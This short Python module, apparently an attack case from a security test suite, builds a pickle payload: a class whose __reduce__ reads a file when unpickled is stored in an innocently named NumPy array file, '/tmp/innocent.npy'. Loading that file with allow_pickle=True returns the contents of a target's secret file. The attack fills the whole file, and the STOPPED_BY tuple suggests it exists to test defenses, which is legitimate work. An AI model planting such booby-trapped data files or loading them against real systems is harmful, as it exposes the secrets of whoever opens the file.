"""Hides code in an array file, for whoever loads it."""

import pathlib

import numpy as np

STOPPED_BY = ("files", "user")


class Reads:
    """What runs code when it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return pathlib.Path.read_text, (pathlib.Path(self.path),)


def attack(target):
    np.save("/tmp/innocent.npy", np.array([Reads(target["secret"])], dtype=object))
    return np.load("/tmp/innocent.npy", allow_pickle=True).tolist()[0]
